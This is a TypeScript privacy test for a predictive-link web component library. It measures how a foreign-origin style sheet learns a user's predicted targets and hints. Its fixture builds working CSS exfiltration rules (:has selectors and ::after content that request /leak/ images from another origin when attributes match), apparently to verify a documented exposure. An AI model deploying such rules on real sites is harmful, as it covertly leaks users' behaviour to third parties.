// What a style sheet of another origin learns of a person: it asks its server for a picture where a selector matches.
import assert from 'node:assert/strict';
import {after, before, test} from 'node:test';
import type {Page} from 'puppeteer-core';
import {PreloadSite, visited, waitFor} from '../pages/preload-site.js';

/** What the sheet reads, by the name of the picture. */
const selectors: Record<string, string> = {
  predicted: 'predictive-button[predicted]',
  state: 'predictive-button:state(predicted)',
  'data-predicted': 'a[data-predicted]',
  'preload-state': '[data-preload-state]',
  hint: '[data-hint]',
  description: '[aria-description]',
};

const foreign = new PreloadSite((path) => {
  if (path !== '/foreign.css') return {type: 'image/png', body: ''};
  // A pseudo-element of each element, so that no rule hides another.
  const rules = Object.entries(selectors).map(
    ([name, selector]) => `html:has(${selector}) #leak-${name} {background: url(/leak/${name})}`,
  );
  // Only by a rule of the element itself: a browser need not look for what contains a style.
  rules.push('a[style*="--predictive"]::after {content: url(/leak/probability)}');
  return {type: 'text/css', body: rules.join('\n')};
});

const site = new PreloadSite((path) => {
  const {pathname, searchParams} = new URL(path, 'http://site.test');
  if (pathname !== '/page') return {};
  return {
    body: `<!doctype html><title>page</title><link rel="icon" href="data:,">
      <link rel="stylesheet" href="${foreign.origin('localhost')}/foreign.css">
      <style>.place {position: fixed; top: 300px; width: 120px; height: 60px}
        i {position: fixed; width: 1px; height: 1px; bottom: 0}</style>
      ${Object.keys(selectors)
        .map((name) => `<i id="leak-${name}"></i>`)
        .join('')}
      <predictive-region targets="a" persist="local" preload="prefetch" name="styled" ${searchParams.get('attributes') ?? ''}>
        <predictive-button class="place" id="own" style="left: 60px">own</predictive-button>
        <a class="place" id="native" href="/next" style="left: 240px">native</a>
        <a class="place" id="habit" href="/habit" style="left: 420px">habit</a></predictive-region>
      <script type="module">
        import '/kit/index.js';
        window.predicted = new Set();
        const region = document.querySelector('predictive-region');
        region.observe(({predicted}) => window.predicted.add(predicted?.id));
        // What this person does each time: habit speaks before anything is pointed at.
        region.seedOrders(Array.from({length: 20}, () => ['native', 'habit', 'own']));
      </script>`,
  };
});

before(() => foreign.start());
after(() => foreign.stop());
const chromium = visited(site);

/** Approaches both kinds of targets, presses one so that habits speak, and returns what the sheet has learned. */
async function learnedFrom(attributes: string): Promise<string[]> {
  const page = await chromium.browser.newPage();
  await page.setViewport({width: 600, height: 500});
  await page.goto(`${site.origin()}/page?attributes=${encodeURIComponent(attributes)}`);
  await page.waitForFunction(() => customElements.get('predictive-region') !== undefined);
  await page.evaluate(() => addEventListener('click', (event) => event.preventDefault()));
  foreign.requests.length = 0;
  for (const [id, x] of [
    ['own', 120],
    ['native', 300],
  ] as const) {
    await waitFor(
      async () => {
        await approach(page, x);
        return page.evaluate(
          (wanted) => (window as unknown as {predicted: Set<string>}).predicted.has(wanted),
          id,
        );
      },
      `a prediction of ${id}`,
      20_000,
    );
  }
  await paint(page);
  await page.mouse.click(300, 330);
  await page.waitForFunction(
    () => document.querySelector('predictive-region')!.habitForecast !== undefined || document.hidden,
    {timeout: 20_000},
  );
  // One picture is asked for after all others.
  await paint(page);
  await page.evaluate(
    (origin) =>
      new Promise((resolve) => {
        const last = new Image();
        last.onerror = last.onload = resolve;
        last.src = `${origin}/last`;
      }),
    foreign.origin('localhost'),
  );
  await page.close();
  return [
    ...new Set(
      foreign
        .seen('/leak/')
        .map(({path}) => path.slice('/leak/'.length))
        .sort(),
    ),
  ];
}

/** What is written is styled, and its pictures asked for, within frames. */
async function paint(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (let i = 0; i < 10; i++) await new Promise(requestAnimationFrame);
  });
}

async function approach(page: Page, x: number): Promise<void> {
  await page.mouse.move(500, 20);
  for (let step = 0; step <= 12; step++) {
    await page.mouse.move(x, 20 + 20 * step);
    await new Promise((resolve) => setTimeout(resolve, 12));
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
}

test('F88 a style sheet of another origin reads predictions and hints, as docs/privacy.md says', async () => {
  const learned = await learnedFrom('hints="described"');
  // Chromium matches `style` only once something has read it; nobody should rely on that.
  for (const name of ['data-predicted', 'hint', 'description'])
    assert.ok(learned.includes(name), `${name} of ${learned.join()}`);
  assert.ok(learned.includes('predicted') || learned.includes('state'), learned.join());
});

test('F88 it reads no habits without hints', async () => {
  const learned = await learnedFrom('');
  assert.ok(learned.includes('data-predicted'), learned.join());
  assert.deepEqual(
    learned.filter((name) => name === 'hint' || name === 'description'),
    [],
  );
});

test('F88 it reads nothing with highlight="none", though targets are predicted, preloaded and habits known', async () => {
  assert.deepEqual(await learnedFrom('highlight="none" hints="described"'), []);
});
